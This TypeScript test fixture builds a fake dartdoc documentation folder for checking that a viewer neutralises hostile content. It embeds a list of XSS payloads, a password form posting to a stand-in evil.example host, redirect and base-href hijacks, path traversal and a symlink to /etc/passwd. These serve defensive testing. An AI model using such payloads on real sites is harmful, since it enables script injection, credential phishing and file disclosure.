import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'

/** A page in dartdoc's layout (lib/templates of dart-lang/dartdoc). */
export const dartdocPage = (title: string, crumbs: string, main: string, extra = ''): string => `<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><title>${title}</title>
<link rel="preconnect" href="https://fonts.gstatic.com"><link href="https://fonts.googleapis.com/css2?family=Roboto+Mono" rel="stylesheet">
<link rel="stylesheet" href="../static-assets/styles.css?v1">${extra}</head>
<body data-base-href="../" data-using-base-href="false" class="light-theme">
<header id="title"><ol class="breadcrumbs gt-separated dark hidden-xs">${crumbs}</ol><form class="search navbar-right" role="search"><input type="text" id="search-box"></form></header>
<main><div id="dartdoc-main-content" class="main-content" data-above-sidebar="x-sidebar.html" data-below-sidebar="">
${main}
</div> <!-- /.main-content -->
<div id="dartdoc-sidebar-left" class="sidebar sidebar-offcanvas-left"><h5>shapes library</h5></div></main>
<script src="../static-assets/docs.dart.js"></script>${extra}</body></html>`

const crumbs = '<li><a href="../index.html">shapes</a></li><li><a href="../shapes/">shapes.dart</a></li>'

/** What a class page of dartdoc looks like. */
const classPage = dartdocPage(
  'Circle class - shapes library - Dart API',
  `${crumbs}<li class="self-crumb">Circle class</li>`,
  `<div><h1><span class="kind-class">Circle</span> class</h1></div>
  <section class="desc markdown"><p>A round <a href="../shapes/Shape-class.html">Shape</a>; see <a href="https://example.com/round">more</a>.</p></section>
  <section class="summary offset-anchor" id="constructors"><h2>Constructors</h2><dl class="constructor-summary-list">
  <dt id="Circle" class="callable"><span class="name"><a href="../shapes/Circle/Circle.html">Circle</a></span><span class="signature">(<wbr><span class="parameter" id="-param-radius"><span class="type-annotation">double</span> <span class="parameter-name">radius</span></span>)</span></dt><dd>Makes one.</dd></dl></section>`,
)

/** What can be tried on a page: none of it may run, send, load or deceive. */
export const hostile = `<script>fetch('/api/auth/me');document.title='owned'</script><img src=x onerror="document.title='owned'">
<svg onload="document.title='owned'"><script>document.title='owned'</script></svg><iframe srcdoc="<script>parent.document.title='owned'</script>"></iframe>
<a href="javascript:document.title='owned'">click me</a> <a href="&#106;avascript:document.title='owned'">or me</a> <a href="data:text/html,<script>1</script>">or this</a>
<a href="../../../../logout">away</a> <a href="//evil.example/">elsewhere</a>
<form action="https://evil.example/steal"><input name="password"><button>Sign in</button></form>
<meta http-equiv="refresh" content="0; url=https://evil.example/"><base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x"><video src="https://evil.example/x.mp4" autoplay></video>
<style>body{background:url(https://evil.example/x)}</style><div style="position:fixed;inset:0;background:url(https://evil.example/y)" class="skip theme tools">over everything</div>
<div id="page-index">[["a","b","c","javascript:alert(1)"]]</div><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=document.title='owned'&gt;">
<p id="after">after all of it</p>`

/** Writes a folder as dart doc would; gives its path, and what removes it. */
export async function dartdocFolder(): Promise<AsyncDisposable & { path: string }> {
  const path = await mkdtemp(join(tmpdir(), 'snug-dartdoc-'))
  const shape = `<div><h1><span class="kind-class">Shape</span> class</h1></div><section class="desc markdown">${hostile}</section>`
  const files: Record<string, string> = {
    'index.html': dartdocPage(
      'shapes - Dart API docs',
      '<li class="self-crumb">shapes package</li>',
      '<section class="desc markdown"><h1 id="shapes">Shapes</h1><p>Draw them.</p></section><section class="summary"><h2>Libraries</h2><dl><dt id="shapes"><span class="name"><a href="shapes/">shapes.dart</a></span></dt><dd></dd></dl></section>',
    ),
    'shapes/index.html': dartdocPage(
      'shapes library - Dart API',
      `<li><a href="../index.html">shapes</a></li><li class="self-crumb">shapes.dart</li>`,
      '<h1>shapes</h1><section class="summary offset-anchor" id="classes"><h2>Classes</h2><dl><dt id="Circle"><a href="../shapes/Circle-class.html">Circle</a></dt></dl></section>',
    ),
    'shapes/shapes-library.html':
      '<!DOCTYPE html><html><head><meta http-equiv="refresh" content="0; url=https://evil.example/"></head><body><a href="../shapes/">New URL</a></body></html>',
    'shapes/Circle-class.html': classPage,
    'shapes/Circle/Circle.html': dartdocPage(
      'Circle constructor',
      `${crumbs}<li><a href="../shapes/Circle-class.html">Circle</a></li><li class="self-crumb">Circle constructor</li>`,
      '<h1>Circle</h1>',
    ),
    'shapes/Shape-class.html': dartdocPage(
      'Shape class',
      `${crumbs}<li class="self-crumb">Shape<script>1</script></li>`,
      shape,
      '<script>document.title="owned"</script>',
    ),
    'shapes/Circle-class-sidebar.html': '<ol><li><script>1</script></li></ol>',
    'shapes/shapes-library-sidebar.html': '<ol></ol>',
    'search.html': dartdocPage('search', '', ''),
    '__404error.html': dartdocPage('404', '', ''),
    'categories.json': '[]',
    'index.json': JSON.stringify([
      { name: 'shapes', qualifiedName: 'shapes', href: 'shapes/', kind: 9, overriddenDepth: 0, packageRank: 0, desc: '' },
      {
        name: 'Circle',
        qualifiedName: 'shapes.Circle',
        href: 'shapes/Circle-class.html',
        kind: 3,
        enclosedBy: { name: 'shapes', kind: 9, href: 'shapes/' },
      },
      {
        name: 'Circle',
        qualifiedName: 'shapes.Circle.Circle',
        href: 'shapes/Circle/Circle.html',
        kind: 2,
        enclosedBy: { name: 'Circle', kind: 3, href: 'shapes/Circle-class.html' },
      },
      { name: '</script><script>document.title="owned"</script>', qualifiedName: 'x', href: 'shapes/Shape-class.html', kind: 3 },
      { name: 'evil', qualifiedName: 'evil', href: 'javascript:document.title="owned"', kind: 3 },
      { name: 'outside', qualifiedName: 'outside', href: '../../../etc/passwd', kind: 3 },
    ]),
    'static-assets/docs.dart.js': 'document.title = "owned"',
    'static-assets/styles.css': 'body { display: none }',
  }
  for (const [name, content] of Object.entries(files)) {
    await mkdir(dirname(join(path, name)), { recursive: true })
    await writeFile(join(path, name), content)
  }
  await symlink('/etc/passwd', join(path, 'shapes/passwd.html'))
  return { path, [Symbol.asyncDispose]: () => rm(path, { recursive: true }) }
}
